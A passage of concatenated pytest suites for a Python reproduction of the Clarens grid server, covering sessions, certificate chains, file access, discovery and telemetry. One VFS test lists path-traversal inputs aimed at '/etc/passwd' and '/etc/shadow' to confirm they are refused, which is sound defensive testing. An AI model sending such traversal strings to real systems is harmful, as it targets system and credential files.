    cl.login_with_credential(admin_credential)
    yield cl
    cl.close()


@pytest.fixture()
def anon_client(server, loopback):
    """A client with no session (anonymous system calls only)."""

    cl = ClarensClient.for_loopback(loopback)
    yield cl
    cl.close()
