"""Shared fixtures.

Key generation dominates test runtime, so one CA and a small cast of
credentials are created per session and shared; tests that need their own
trust roots build them explicitly.
"""

from __future__ import annotations

import pytest

from repro.core.config import ServerConfig
from repro.core.server import ClarensServer
from repro.client.client import ClarensClient
from repro.pki.authority import CertificateAuthority

ADMIN_DN = "/O=clarens.test/OU=People/CN=Ada Admin"


@pytest.fixture(scope="session")
def ca() -> CertificateAuthority:
    """A session-wide certificate authority."""

    return CertificateAuthority("/O=clarens.test/CN=Clarens Test CA", key_bits=512)


@pytest.fixture(scope="session")
def host_credential(ca):
    return ca.issue_host("server.clarens.test")


@pytest.fixture(scope="session")
def admin_credential(ca):
    return ca.issue_user("Ada Admin")


@pytest.fixture(scope="session")
def alice_credential(ca):
    return ca.issue_user("Alice Adams")


@pytest.fixture(scope="session")
def bob_credential(ca):
    return ca.issue_user("Bob Brown")


def build_server(ca, host_credential, *, admins=(ADMIN_DN,), data_dir=None,
                 message_bus=None, **overrides):
    """Construct a ClarensServer wired to the shared test CA."""

    config = ServerConfig(
        server_name=overrides.pop("server_name", "test-server"),
        admins=list(admins),
        data_dir=str(data_dir) if data_dir is not None else None,
        host_dn=str(host_credential.certificate.subject),
        **overrides,
    )
    return ClarensServer(config, credential=host_credential, trust_store=ca.trust_store(),
                         message_bus=message_bus)


@pytest.fixture()
def server(ca, host_credential):
    """A fresh in-memory server per test."""

    srv = build_server(ca, host_credential)
    yield srv
    srv.close()


@pytest.fixture()
def loopback(server):
    return server.loopback()


@pytest.fixture()
def client(server, loopback, alice_credential):
    """A client logged in as Alice over the unencrypted loopback."""

    cl = ClarensClient.for_loopback(loopback)
    cl.login_with_credential(alice_credential)
    yield cl
    cl.close()


@pytest.fixture()
def admin_client(server, loopback, admin_credential):
    """A client logged in as the server administrator."""

    cl = ClarensClient.for_loopback(loopback)
    cl.login_with_credential(admin_credential)
    yield cl
    cl.close()


@pytest.fixture()
def anon_client(server, loopback):
    """A client with no session (anonymous system calls only)."""

    cl = ClarensClient.for_loopback(loopback)
    yield cl
    cl.close()
