"""Server configuration and the persistent session manager."""

from __future__ import annotations

import time

import pytest

from repro.core.config import ConfigError, ServerConfig
from repro.core.errors import SessionExpiredError
from repro.core.session import SessionManager
from repro.database import Database


class TestServerConfig:
    def test_defaults(self):
        config = ServerConfig()
        assert config.url_prefix == "/clarens"
        assert config.rpc_path() == "/clarens/rpc"
        assert config.access_checks_per_request == 2
        assert not config.cache_method_list  # the paper ran without caching

    def test_url_prefix_normalised(self):
        assert ServerConfig(url_prefix="grid/").url_prefix == "/grid"
        assert ServerConfig(url_prefix="grid").file_path() == "/grid/file"

    @pytest.mark.parametrize("kwargs", [
        {"server_name": ""},
        {"session_lifetime": 0},
        {"access_checks_per_request": -1},
        {"max_read_bytes": 0},
    ])
    def test_invalid_values_rejected(self, kwargs):
        with pytest.raises(ConfigError):
            ServerConfig(**kwargs)

    def test_from_mapping_separates_extra(self):
        config = ServerConfig.from_mapping({
            "server_name": "t1", "admins": ["/O=x/CN=a"], "experiment": "fig4"})
        assert config.server_name == "t1"
        assert config.extra == {"experiment": "fig4"}

    def test_ini_round_trip(self, tmp_path):
        original = ServerConfig(server_name="ini-server", admins=["/O=x/CN=a", "/O=x/CN=b"],
                                session_lifetime=600.0, cache_method_list=True)
        path = original.to_ini(tmp_path / "clarens.ini")
        loaded = ServerConfig.from_ini(path)
        assert loaded.server_name == "ini-server"
        assert loaded.admins == ["/O=x/CN=a", "/O=x/CN=b"]
        assert loaded.session_lifetime == 600.0
        assert loaded.cache_method_list is True

    def test_from_ini_missing_file(self, tmp_path):
        with pytest.raises(ConfigError):
            ServerConfig.from_ini(tmp_path / "missing.ini")

    def test_with_overrides_copies(self):
        base = ServerConfig(server_name="a")
        derived = base.with_overrides(server_name="b", access_checks_per_request=0)
        assert base.server_name == "a"
        assert derived.server_name == "b" and derived.access_checks_per_request == 0


class TestSessionManager:
    def test_create_and_validate(self):
        sessions = SessionManager(Database())
        session = sessions.create("/O=x/CN=alice")
        fetched = sessions.validate(session.session_id)
        assert fetched.dn == "/O=x/CN=alice"
        assert fetched.method == "certificate"

    def test_unknown_session_rejected(self):
        sessions = SessionManager(Database())
        with pytest.raises(SessionExpiredError):
            sessions.validate("does-not-exist")

    def test_expired_session_rejected_and_removed(self):
        sessions = SessionManager(Database(), lifetime=0.01)
        session = sessions.create("/O=x/CN=alice")
        time.sleep(0.02)
        with pytest.raises(SessionExpiredError):
            sessions.validate(session.session_id)
        assert sessions.get(session.session_id) is None

    def test_renew_extends_expiry(self):
        sessions = SessionManager(Database(), lifetime=0.05)
        session = sessions.create("/O=x/CN=alice")
        renewed = sessions.renew(session.session_id, lifetime=60.0)
        assert renewed.expires > session.expires

    def test_destroy_and_destroy_for_dn(self):
        sessions = SessionManager(Database())
        s1 = sessions.create("/O=x/CN=alice")
        sessions.create("/O=x/CN=alice")
        sessions.create("/O=x/CN=bob")
        assert sessions.destroy(s1.session_id)
        assert sessions.destroy_for_dn("/O=x/CN=alice") == 1
        assert sessions.count() == 1

    def test_sessions_for_dn(self):
        sessions = SessionManager(Database())
        sessions.create("/O=x/CN=alice")
        sessions.create("/O=x/CN=alice", method="proxy")
        found = sessions.sessions_for("/O=x/CN=alice")
        assert len(found) == 2
        assert {s.method for s in found} == {"certificate", "proxy"}

    def test_purge_expired(self):
        sessions = SessionManager(Database(), lifetime=0.01)
        for _ in range(3):
            sessions.create("/O=x/CN=a")
        keeper = sessions.create("/O=x/CN=b", lifetime=60)
        time.sleep(0.02)
        assert sessions.purge_expired() == 3
        assert sessions.validate(keeper.session_id).dn == "/O=x/CN=b"

    def test_attributes_persist(self):
        sessions = SessionManager(Database())
        session = sessions.create("/O=x/CN=alice")
        sessions.set_attribute(session.session_id, "sandbox", "/sandboxes/alice")
        assert sessions.validate(session.session_id).attributes["sandbox"] == "/sandboxes/alice"

    def test_session_ids_are_unique_and_opaque(self):
        sessions = SessionManager(Database())
        ids = {sessions.create("/O=x/CN=a").session_id for _ in range(50)}
        assert len(ids) == 50
        assert all(len(i) == 32 for i in ids)

    def test_sessions_survive_restart(self, tmp_path):
        """The paper's core claim: clients survive server restarts transparently."""

        db = Database(tmp_path / "state")
        sessions = SessionManager(db)
        session = sessions.create("/O=x/CN=alice")
        db.close()

        restarted = SessionManager(Database(tmp_path / "state"))
        fetched = restarted.validate(session.session_id)
        assert fetched.dn == "/O=x/CN=alice"
        assert fetched.created == pytest.approx(session.created)

    def test_touch_on_validate_updates_last_used(self):
        sessions = SessionManager(Database(), touch_on_validate=True)
        session = sessions.create("/O=x/CN=alice")
        before = session.last_used
        time.sleep(0.01)
        after = sessions.validate(session.session_id).last_used
        assert after > before
