"""Certificates, trust stores, chain verification and CAs."""

from __future__ import annotations

import time

import pytest

from repro.pki.authority import CertificateAuthority
from repro.pki.certificate import (
    Certificate,
    CertificateError,
    TrustStore,
    VerificationError,
    verify_chain,
)
from repro.pki.dn import DN


@pytest.fixture(scope="module")
def authority():
    return CertificateAuthority("/O=grid.test/CN=Module CA", key_bits=512)


@pytest.fixture(scope="module")
def user_credential(authority):
    return authority.issue_user("Carol Chen")


class TestCertificateBasics:
    def test_issued_certificate_fields(self, authority, user_credential):
        cert = user_credential.certificate
        assert cert.issuer == authority.name
        assert cert.subject.common_name == "Carol Chen"
        assert not cert.is_ca and not cert.is_proxy
        assert cert.is_valid_at()

    def test_signature_verifies_under_ca_key(self, authority, user_credential):
        assert user_credential.certificate.verify_signature(authority.certificate.public_key)

    def test_signature_fails_under_other_key(self, authority, user_credential):
        other = CertificateAuthority("/O=grid.test/CN=Other CA", key_bits=256)
        assert not user_credential.certificate.verify_signature(other.certificate.public_key)

    def test_validity_window(self, authority):
        cred = authority.issue("/O=grid.test/CN=short", lifetime=10.0)
        cert = cred.certificate
        assert cert.is_valid_at(cert.not_before + 5)
        assert not cert.is_valid_at(cert.not_before - 5)
        assert not cert.is_valid_at(cert.not_after + 5)

    def test_dict_round_trip(self, user_credential):
        cert = user_credential.certificate
        assert Certificate.from_dict(cert.to_dict()) == cert

    def test_malformed_dict_raises(self):
        with pytest.raises(CertificateError):
            Certificate.from_dict({"subject": "/O=x"})

    def test_fingerprint_distinct_per_certificate(self, authority):
        a = authority.issue_user("User A").certificate
        b = authority.issue_user("User B").certificate
        assert a.fingerprint() != b.fingerprint()

    def test_serials_unique_and_increasing(self, authority):
        first = authority.issue_user("Serial One").certificate
        second = authority.issue_user("Serial Two").certificate
        assert second.serial > first.serial


class TestTrustStore:
    def test_only_self_signed_ca_accepted_as_root(self, authority, user_credential):
        store = TrustStore()
        store.add(authority.certificate)
        assert authority.name in store
        with pytest.raises(CertificateError):
            store.add(user_credential.certificate)

    def test_forged_self_signature_rejected(self, authority):
        cert = authority.certificate
        forged = Certificate(
            subject=cert.subject, issuer=cert.issuer, public_key=cert.public_key,
            serial=cert.serial, not_before=cert.not_before, not_after=cert.not_after,
            signature=cert.signature + 1, is_ca=True)
        with pytest.raises(VerificationError):
            TrustStore([forged])

    def test_remove_and_len(self, authority):
        store = TrustStore([authority.certificate])
        assert len(store) == 1
        store.remove(authority.name)
        assert len(store) == 0
        assert authority.name not in store


class TestChainVerification:
    def test_valid_user_chain(self, authority, user_credential):
        end = verify_chain(user_credential.full_chain(), authority.trust_store())
        assert end.subject == user_credential.certificate.subject

    def test_untrusted_root_rejected(self, user_credential):
        other = CertificateAuthority("/O=grid.test/CN=Stranger CA", key_bits=256)
        with pytest.raises(VerificationError, match="no trusted root"):
            verify_chain(user_credential.full_chain(), other.trust_store())

    def test_expired_certificate_rejected(self, authority):
        cred = authority.issue("/O=grid.test/CN=expired", lifetime=0.001)
        time.sleep(0.01)
        with pytest.raises(VerificationError, match="validity"):
            verify_chain(cred.full_chain(), authority.trust_store())

    def test_tampered_certificate_rejected(self, authority, user_credential):
        cert = user_credential.certificate
        tampered = Certificate(
            subject=DN.parse("/O=grid.test/CN=Mallory"), issuer=cert.issuer,
            public_key=cert.public_key, serial=cert.serial, not_before=cert.not_before,
            not_after=cert.not_after, signature=cert.signature)
        with pytest.raises(VerificationError, match="bad signature"):
            verify_chain([tampered, *user_credential.chain], authority.trust_store())

    def test_revoked_certificate_rejected(self, authority):
        cred = authority.issue_user("Revoked User")
        authority.revoke(cred.certificate)
        with pytest.raises(VerificationError, match="revoked"):
            verify_chain(cred.full_chain(), authority.trust_store(),
                         revoked_serials=authority.crl())

    def test_unrevoked_sibling_still_valid(self, authority):
        revoked = authority.issue_user("To Revoke")
        fine = authority.issue_user("Still Fine")
        authority.revoke(revoked.certificate)
        end = verify_chain(fine.full_chain(), authority.trust_store(),
                           revoked_serials=authority.crl())
        assert end.subject.common_name == "Still Fine"

    def test_empty_chain_rejected(self, authority):
        with pytest.raises(VerificationError):
            verify_chain([], authority.trust_store())

    def test_intermediate_ca_chain(self, authority):
        sub = authority.issue_sub_ca("/O=grid.test/CN=Sub CA", path_length=0)
        sub_ca = CertificateAuthority("/O=grid.test/CN=unused", key_bits=256)
        # Re-sign a user certificate under the intermediate key by building the
        # chain by hand: user signed by sub CA, sub CA signed by root.
        user_key = sub_ca._keypair  # reuse a generated keypair for speed
        user_cert = Certificate.build_and_sign(
            subject=DN.parse("/O=grid.test/OU=People/CN=Nested User"),
            issuer=sub.certificate.subject,
            public_key=user_key.public,
            signing_key=sub.private_key,
            serial=999_001,
            lifetime=3600,
        )
        chain = [user_cert, sub.certificate, authority.certificate]
        end = verify_chain(chain, authority.trust_store())
        assert end.subject.common_name == "Nested User"

    def test_chain_break_detected(self, authority, user_credential):
        other = CertificateAuthority("/O=grid.test/CN=Unrelated CA", key_bits=256)
        broken = [user_credential.certificate, other.certificate, authority.certificate]
        with pytest.raises(VerificationError):
            verify_chain(broken, authority.trust_store())


class TestCertificateAuthority:
    def test_issue_user_dn_layout(self, authority):
        cred = authority.issue_user("Dave Dunn", "Staff")
        assert cred.certificate.subject == DN.parse("/O=grid.test/OU=Staff/CN=Dave Dunn")

    def test_issue_host_dn_layout(self, authority):
        cred = authority.issue_host("node1.grid.test")
        assert cred.certificate.subject.common_name == "host/node1.grid.test"
        assert cred.certificate.subject.is_service_dn()

    def test_revoke_unknown_serial_raises(self, authority):
        with pytest.raises(CertificateError):
            authority.revoke(123456789)

    def test_is_revoked(self, authority):
        cred = authority.issue_user("Eve Example")
        assert not authority.is_revoked(cred.certificate)
        authority.revoke(cred.certificate.serial)
        assert authority.is_revoked(cred.certificate)

    def test_describe_counts(self, authority):
        info = authority.describe()
        assert info["issued"] == len(authority.issued_certificates())
        assert info["name"] == str(authority.name)
