"""Remote file access: the VFS, the RPC methods, and the GET/sendfile path."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given, settings, strategies as st

from repro.acl.model import ACL
from repro.fileservice.vfs import VFSError, VirtualFileSystem
from repro.protocols.errors import Fault, FaultCode


@pytest.fixture()
def vfs(tmp_path):
    root = tmp_path / "vroot"
    (root / "data" / "cms").mkdir(parents=True)
    (root / "data" / "cms" / "run1.root").write_bytes(b"event" * 1000)
    (root / "data" / "cms" / "run2.root").write_bytes(b"other" * 500)
    (root / "readme.txt").write_text("hello grid\n")
    return VirtualFileSystem(root)


class TestVFS:
    def test_read_full_and_with_offset(self, vfs):
        assert vfs.read("/readme.txt") == b"hello grid\n"
        assert vfs.read("/readme.txt", 6, 4) == b"grid"
        assert vfs.read("/readme.txt", 6, -1) == b"grid\n"

    def test_read_past_eof_returns_empty(self, vfs):
        assert vfs.read("/readme.txt", 10_000, 10) == b""

    def test_negative_offset_rejected(self, vfs):
        with pytest.raises(VFSError):
            vfs.read("/readme.txt", -1, 10)

    def test_read_directory_rejected(self, vfs):
        with pytest.raises(VFSError):
            vfs.read("/data")

    def test_path_escape_refused(self, vfs):
        for attempt in ("../secrets", "/../../etc/passwd", "/data/../../x",
                        "data/cms/../../../../etc/shadow"):
            with pytest.raises(VFSError):
                vfs.resolve(attempt)

    def test_listdir_entries(self, vfs):
        names = {e["name"]: e for e in vfs.listdir("/data/cms")}
        assert set(names) == {"run1.root", "run2.root"}
        assert names["run1.root"]["type"] == "file"
        assert names["run1.root"]["size"] == 5000
        root_entries = {e["name"]: e["type"] for e in vfs.listdir("/")}
        assert root_entries == {"data": "directory", "readme.txt": "file"}

    def test_stat_fields(self, vfs):
        info = vfs.stat("/data/cms/run1.root")
        assert info["type"] == "file" and info["size"] == 5000
        assert vfs.stat("/")["type"] == "directory"

    def test_md5_matches_hashlib(self, vfs):
        expected = hashlib.md5(b"event" * 1000).hexdigest()
        assert vfs.md5("/data/cms/run1.root") == expected

    def test_find_glob(self, vfs):
        assert vfs.find("*.root") == ["/data/cms/run1.root", "/data/cms/run2.root"]
        assert vfs.find("run1*", "/data") == ["/data/cms/run1.root"]
        assert vfs.find("*.nothing") == []

    def test_write_append_delete(self, vfs):
        assert vfs.write("/out/result.txt", b"abc") == 3
        assert vfs.write("/out/result.txt", b"def", append=True) == 3
        assert vfs.read("/out/result.txt") == b"abcdef"
        assert vfs.delete("/out/result.txt")
        assert not vfs.exists("/out/result.txt")

    def test_delete_directory_requires_recursive(self, vfs):
        with pytest.raises(VFSError):
            vfs.delete("/data")
        assert vfs.delete("/data", recursive=True)
        with pytest.raises(VFSError):
            vfs.delete("/", recursive=True)

    def test_copy(self, vfs):
        vfs.copy("/readme.txt", "/copies/readme2.txt")
        assert vfs.read("/copies/readme2.txt") == b"hello grid\n"

    def test_mkdir(self, vfs):
        assert vfs.mkdir("/new/deep/dir") == "/new/deep/dir"
        assert vfs.stat("/new/deep/dir")["type"] == "directory"


@pytest.fixture()
def filled_server(server, admin_client):
    """Write a small dataset into the running test server's file root."""

    admin_client.call("file.mkdir", "/data/cms")
    admin_client.call("file.write", "/data/cms/run1.root", b"event" * 1000, False)
    admin_client.call("file.write", "/readme.txt", b"hello grid\n", False)
    return server


class TestFileServiceRPC:
    def test_read_ls_stat_md5(self, filled_server, client):
        assert client.call("file.read", "/data/cms/run1.root", 0, 10) == b"event" * 2
        listing = client.call("file.ls", "/data/cms")
        assert listing[0]["name"] == "run1.root"
        assert client.call("file.stat", "/readme.txt")["size"] == 11
        assert client.call("file.md5", "/readme.txt") == hashlib.md5(b"hello grid\n").hexdigest()
        assert client.call("file.size", "/readme.txt") == 11
        assert client.call("file.exists", "/readme.txt") is True
        assert client.call("file.find", "*.root", "/") == ["/data/cms/run1.root"]

    def test_read_caps_at_max_read_bytes(self, filled_server, admin_client, client):
        filled_server.config.max_read_bytes = 100
        data = client.call("file.read", "/data/cms/run1.root", 0, -1)
        assert len(data) == 100

    def test_missing_file_raises_not_found(self, filled_server, client):
        with pytest.raises(Fault) as excinfo:
            client.call("file.read", "/no/such/file.root", 0, 10)
        assert excinfo.value.code == FaultCode.NOT_FOUND

    def test_write_and_delete(self, filled_server, client):
        client.call("file.write", "/scratch/notes.txt", b"note", False)
        assert client.call("file.read", "/scratch/notes.txt", 0, -1) == b"note"
        assert client.call("file.delete", "/scratch/notes.txt", False) is True

    def test_anonymous_caller_denied(self, filled_server, anon_client):
        with pytest.raises(Fault) as excinfo:
            anon_client.call("file.read", "/readme.txt", 0, 10)
        assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED

    def test_file_acl_enforced_per_operation(self, filled_server, admin_client, client,
                                             alice_credential, bob_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("acl.set_file_acl", "/data",
                          ACL(dns_allowed=[alice_dn]).to_record(),
                          ACL(dns_allowed=["/O=clarens.test/OU=People/CN=Ada Admin"]).to_record())
        # Alice can read but not write under /data.
        assert client.call("file.read", "/data/cms/run1.root", 0, 4) == b"even"
        with pytest.raises(Fault) as excinfo:
            client.call("file.write", "/data/cms/new.root", b"x", False)
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_acl_denies_other_vo_member(self, filled_server, admin_client, server, loopback,
                                        alice_credential, bob_credential):
        from repro.client.client import ClarensClient

        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("acl.set_file_acl", "/data",
                          ACL(dns_allowed=[alice_dn]).to_record(),
                          ACL(dns_allowed=[alice_dn]).to_record())
        bob = ClarensClient.for_loopback(loopback)
        bob.login_with_credential(bob_credential)
        with pytest.raises(Fault) as excinfo:
            bob.call("file.ls", "/data/cms")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED


class TestFileGET:
    def test_get_serves_file_with_headers(self, filled_server, client):
        response = client.http_get("readme.txt")
        assert response.status == 200
        assert response.body_bytes() == b"hello grid\n"
        assert response.headers.get("X-Clarens-File") == "/readme.txt"

    def test_get_with_offset_and_length(self, filled_server, client):
        response = client.http_get("readme.txt", query="offset=6&length=4")
        assert response.body_bytes() == b"grid"

    def test_get_directory_lists_entries(self, filled_server, client):
        response = client.http_get("data")
        assert b"/data/cms" in response.body_bytes()

    def test_get_missing_file_is_xml_404(self, filled_server, client):
        response = client.http_get("nothing/here.dat")
        assert response.status == 404
        assert response.headers.get("Content-Type") == "text/xml"

    def test_get_respects_file_acl(self, filled_server, admin_client, client,
                                   alice_credential):
        admin_client.call("acl.set_file_acl", "/data",
                          ACL(dns_allowed=["/O=clarens.test/OU=People/CN=Ada Admin"]).to_record(),
                          ACL(dns_allowed=["/O=clarens.test/OU=People/CN=Ada Admin"]).to_record())
        response = client.http_get("data/cms/run1.root")
        assert response.status == 403

    def test_get_content_type_guessed(self, filled_server, admin_client, client):
        admin_client.call("file.write", "/page.html", b"<html></html>", False)
        response = client.http_get("page.html")
        assert response.headers.get("Content-Type") == "text/html"


# -- property-based: file.read(offset, nbytes) equals slicing the reference bytes ------

@settings(deadline=None, max_examples=40)
@given(data=st.binary(min_size=0, max_size=4096),
       offset=st.integers(0, 5000), length=st.integers(-1, 5000))
def test_read_matches_python_slicing(tmp_path_factory, data, offset, length):
    root = tmp_path_factory.mktemp("vfs-prop")
    (root / "blob.bin").write_bytes(data)
    vfs = VirtualFileSystem(root)
    expected = data[offset:] if length < 0 else data[offset:offset + length]
    assert vfs.read("/blob.bin", offset, length) == expected
