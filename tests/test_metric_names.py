"""The Prometheus-naming lint, wired into the suite.

``scripts/check_metric_names.py`` assembles a full server and checks every
registered metric family against the naming rules (namespace, snake_case,
``_total`` on counters, base units, reserved labels).  Running it here makes
a naming regression a test failure, not a dashboard surprise later.
"""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
SCRIPT = REPO_ROOT / "scripts" / "check_metric_names.py"


def _load_checker():
    spec = importlib.util.spec_from_file_location("check_metric_names", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def test_registered_metric_names_pass_the_lint():
    checker = _load_checker()
    server = checker.build_registry()
    try:
        metrics = checker.collect_metrics(server)
    finally:
        server.close()
    assert metrics, "the assembled server registered no metrics"
    problems = checker.lint(metrics)
    assert not problems, "\n".join(problems)


def test_lint_catches_bad_names():
    checker = _load_checker()
    bad = [
        ("requests_total", "counter", ()),            # no namespace
        ("clarens_latency_ms", "gauge", ()),          # non-base unit
        ("clarens_hits", "counter", ()),              # counter without _total
        ("clarens_queue_total", "gauge", ()),         # _total on a gauge
        ("clarens_ok_total", "counter", ("le",)),     # reserved label
        ("clarens_Bad_name", "gauge", ()),            # not snake_case
    ]
    problems = checker.lint(bad)
    assert len(problems) == len(bad)
    # And a duplicate across instrument/callback space is caught too.
    dup = [("clarens_x_total", "counter", ()), ("clarens_x_total", "counter", ())]
    assert any("twice" in p for p in checker.lint(dup))
