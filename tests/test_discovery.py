"""Service discovery: descriptors, the registry, publication, and the RPC service."""

from __future__ import annotations

import time

import pytest

from repro.discovery.model import ServiceDescriptor
from repro.discovery.publisher import ServicePublisher
from repro.discovery.registry import DiscoveryRegistry
from repro.monitoring.bus import MessageBus
from repro.monitoring.monalisa import MonALISARepository
from repro.monitoring.station import StationServer
from repro.protocols.errors import Fault


def descriptor(name="clarens-a", url="http://a/clarens/rpc", services=("system", "file"),
               ttl=300.0, **attrs) -> ServiceDescriptor:
    return ServiceDescriptor(name=name, url=url, services=list(services),
                             methods=[f"{s}.ping" for s in services],
                             attributes=dict(attrs), ttl=ttl)


class TestServiceDescriptor:
    def test_record_round_trip(self):
        original = descriptor(vo="cms")
        restored = ServiceDescriptor.from_record(original.to_record())
        assert restored.name == original.name
        assert restored.attributes == {"vo": "cms"}
        assert restored.offers_module("file") and not restored.offers_module("job")

    def test_expiry_and_refresh(self):
        d = descriptor(ttl=0.01)
        time.sleep(0.02)
        assert d.is_expired()
        d.refresh()
        assert not d.is_expired()


class TestDiscoveryRegistry:
    def test_register_find_deregister(self):
        registry = DiscoveryRegistry()
        registry.register(descriptor("a", "http://a/rpc", ("system", "file")))
        registry.register(descriptor("b", "http://b/rpc", ("system", "job")))
        assert registry.count() == 2
        assert [d.name for d in registry.find(module="file")] == ["a"]
        assert [d.name for d in registry.find(method="job.ping")] == ["b"]
        assert registry.deregister("a") == 1
        assert registry.count() == 1

    def test_find_by_attributes_and_protocol(self):
        registry = DiscoveryRegistry()
        registry.register(descriptor("a", vo="cms"))
        registry.register(descriptor("b", url="http://b/rpc", vo="atlas"))
        assert [d.name for d in registry.find(attributes={"vo": "cms"})] == ["a"]
        assert len(registry.find(protocol="xml-rpc")) == 2
        assert registry.find(protocol="corba") == []

    def test_expired_descriptors_disappear(self):
        registry = DiscoveryRegistry()
        registry.register(descriptor("ephemeral", ttl=0.01))
        registry.register(descriptor("stable", url="http://s/rpc", ttl=300))
        time.sleep(0.02)
        assert [d.name for d in registry.all()] == ["stable"]

    def test_reregistration_refreshes_ttl(self):
        registry = DiscoveryRegistry()
        registry.register(descriptor("a", ttl=0.05))
        time.sleep(0.03)
        registry.register(descriptor("a", ttl=0.05))
        time.sleep(0.03)
        assert registry.count() == 1  # still alive thanks to the refresh

    def test_lookup_url_prefers_most_recent(self):
        registry = DiscoveryRegistry()
        old = descriptor("svc", url="http://old/rpc")
        old.published_at = time.time() - 100
        registry.register(old)
        registry.register(descriptor("svc", url="http://new/rpc"))
        assert registry.lookup_url(module="file") == "http://new/rpc"
        assert registry.lookup_url(module="does-not-exist") is None

    def test_refresh_named_registration(self):
        registry = DiscoveryRegistry()
        registry.register(descriptor("a", url="http://a/rpc", ttl=10))
        assert registry.refresh("a", "http://a/rpc")
        assert not registry.refresh("missing", "http://x/rpc")

    def test_sync_from_monitoring_repository(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        station = StationServer("st", bus)
        station.receive_service_info(descriptor("published", url="http://p/rpc").to_record(),
                                     reliable=True)
        registry = DiscoveryRegistry(repository=repo)
        assert registry.sync_from_repository() == 1
        assert registry.lookup_url(name="published") == "http://p/rpc"


class TestServicePublisher:
    def test_publish_once_reaches_repository(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        station = StationServer("st", bus)
        publisher = ServicePublisher(station, lambda: descriptor("pub", url="http://pub/rpc"),
                                     reliable=True)
        record = publisher.publish_once()
        assert record["name"] == "pub"
        assert repo.find_services(name="pub")
        assert publisher.publications == 1

    def test_background_publication(self):
        bus = MessageBus()
        station = StationServer("st", bus)
        publisher = ServicePublisher(station, lambda: descriptor("bg"), interval=0.02,
                                     reliable=True)
        with publisher:
            time.sleep(0.06)
        assert publisher.publications >= 2


class TestDiscoveryService:
    def test_server_registers_itself_on_start(self, anon_client, server):
        servers = anon_client.call("discovery.list_servers")
        assert any(d["name"] == server.config.server_name for d in servers)
        assert anon_client.call("discovery.count") >= 1

    def test_register_and_lookup_over_rpc(self, client):
        client.call("discovery.register", descriptor("remote-1", url="http://r1/rpc",
                                                      services=("system", "job")).to_record())
        assert client.call("discovery.lookup", "job", "", "") == "http://r1/rpc"
        # Both the hosting server (it offers "job" too) and the new registration
        # match a module query; the freshly registered one must be among them.
        found = client.call("discovery.find", "", "job", "", "")
        assert "remote-1" in {d["name"] for d in found}
        assert client.call("discovery.find", "remote-1", "", "", "")[0]["url"] == "http://r1/rpc"
        assert client.call("discovery.deregister", "remote-1", "") == 1

    def test_lookup_returns_empty_string_when_absent(self, anon_client):
        assert anon_client.call("discovery.lookup", "nonexistent-module", "", "") == ""

    def test_registration_requires_authentication(self, anon_client):
        with pytest.raises(Fault):
            anon_client.call("discovery.register", descriptor().to_record())

    def test_sync_and_purge_require_admin(self, client, admin_client):
        with pytest.raises(Fault):
            client.call("discovery.sync")
        assert admin_client.call("discovery.sync") == 0  # no monitor attached
        assert admin_client.call("discovery.purge") >= 0
