"""The ``repro.telemetry`` layer: tracing, metrics, and export surfaces.

Unit-level coverage of the trace context wire format, the metrics registry
and its Prometheus text exposition, and the slow-request log; server-level
coverage of span recording, the ``system.trace``/``system.metrics`` RPCs
and the ``GET /metrics`` scrape over a real socket; and federation-level
coverage that one trace id links spans across two socket-connected servers
— for a multicall entry pulling a remote LFN, for a broker read through a
``RemoteStorageElement``, and for a quarantine→heal chain.
"""

from __future__ import annotations

import http.client
import re
import socket
import time

import pytest

from repro.client.client import ClarensClient
from repro.core.config import ConfigError, ServerConfig
from repro.core.server import ClarensServer
from repro.pki.authority import CertificateAuthority
from repro.protocols.errors import Fault, FaultCode
from repro.telemetry.metrics import MetricsRegistry
from repro.telemetry.slowlog import SlowRequestLog
from repro.telemetry.trace import (TRACE_HEADER, Span, SpanRecorder,
                                   TraceContext, current_trace, use_trace)

OPS_DN = "/O=clarens.test/OU=People/CN=Ada Admin"

HEX_ID = re.compile(r"^[0-9a-f]{16}$")
#: One exposition sample line: name, optional {labels}, numeric value.
SAMPLE_LINE = re.compile(
    r"^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^{}]*\})? (?:[0-9.e+-]+|\+Inf|NaN)$")


@pytest.fixture(scope="module")
def telemetry_ca():
    return CertificateAuthority("/O=clarens.test/CN=Telemetry CA",
                                key_bits=512)


@pytest.fixture(scope="module")
def admin_credential(telemetry_ca):
    return telemetry_ca.issue_user("Ada Admin")


@pytest.fixture(scope="module")
def user_credential(telemetry_ca):
    return telemetry_ca.issue_user("Norma User")


def build_site(ca, name, **overrides):
    host = ca.issue_host(f"{name}.clarens.test")
    overrides.setdefault("telemetry_enabled", True)
    config = ServerConfig(server_name=name, admins=[OPS_DN],
                          host_dn=str(host.certificate.subject), **overrides)
    return ClarensServer(config, credential=host, trust_store=ca.trust_store())


def login(server, credential):
    client = ClarensClient.for_loopback(server.loopback())
    client.login_with_credential(credential)
    return client


# ---------------------------------------------------------------------------
# TraceContext and the wire format
# ---------------------------------------------------------------------------

class TestTraceContext:
    def test_new_mints_root_ids(self):
        ctx = TraceContext.new()
        assert HEX_ID.match(ctx.trace_id)
        assert HEX_ID.match(ctx.span_id)
        assert ctx.parent_id == ""

    def test_child_stays_in_trace_and_parents_on_self(self):
        root = TraceContext.new()
        child = root.child()
        assert child.trace_id == root.trace_id
        assert child.span_id != root.span_id
        assert child.parent_id == root.span_id

    def test_header_round_trip_parents_on_sender(self):
        sender = TraceContext.new()
        received = TraceContext.from_header(sender.to_header())
        assert received is not None
        assert received.trace_id == sender.trace_id
        # The receiver does its own work under its own span id; the span it
        # heard about becomes the parent.
        assert received.parent_id == sender.span_id
        assert received.span_id != sender.span_id

    def test_upper_case_hex_normalised(self):
        received = TraceContext.from_header("ABCDEF0123456789;FEDCBA9876543210")
        assert received is not None
        assert received.trace_id == "abcdef0123456789"
        assert received.parent_id == "fedcba9876543210"

    @pytest.mark.parametrize("garbage", [
